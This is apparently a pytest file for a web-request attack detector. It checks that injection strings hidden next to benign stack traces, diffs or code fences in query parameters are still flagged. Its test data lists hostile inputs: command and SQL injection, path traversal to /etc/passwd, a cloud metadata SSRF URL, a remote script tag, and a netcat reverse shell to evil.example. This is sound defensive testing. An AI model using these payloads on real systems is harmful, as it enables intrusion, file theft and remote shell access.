"""A stack trace or a program beside an attack excuses it in no field for one line."""

from __future__ import annotations

from urllib.parse import quote

import pytest

from guard_wsgi.detection import Detector
from tests.detection.requests import environ

ATTACKS = (
    *("$(id)", "{{config}}", "' OR 'a'='a", "; cat /etc/passwd", "../../../../etc/passwd"),
    *("<script src=//x.example></script>", "open('/etc/passwd').read()"),
    *("http://169.254.169.254/latest/meta-data/", "| nc evil.example 4444 -e /bin/sh"),
)
QUOTED = (
    'Traceback (most recent call last):\n  File "x.py", line 1, in <module>\n    x()\nNameError: x',
    "TypeError: x\n    at Object.<anonymous> (/a.js:1:1)",
    "goroutine 1 [running]:\nmain.main()",
    "   at A.B(String c) in a.cs:line 1",
    "FROM python:3\nRUN pip install x",
    "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b",
    "```\nx\n```",
)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("name", ["q", "name", "id", "email"])
def test_an_attack_beside_a_quoted_text_is_found(name: str, attack: str) -> None:
    inspection = Detector().compile()
    for quoted in QUOTED:
        for text in (f"{quoted}\n{attack}", f"{attack}\n{quoted}", f"{quoted}\r\n{attack}\r\n"):
            assert inspection.head(environ(QUERY_STRING=f"{name}={quote(text)}")), text


@pytest.mark.parametrize("name", ["q", "name", "body"])
def test_a_quoted_text_alone_passes(name: str) -> None:
    inspection = Detector().compile()
    for quoted in QUOTED:
        assert not inspection.head(environ(QUERY_STRING=f"{name}={quote(quoted)}")), quoted
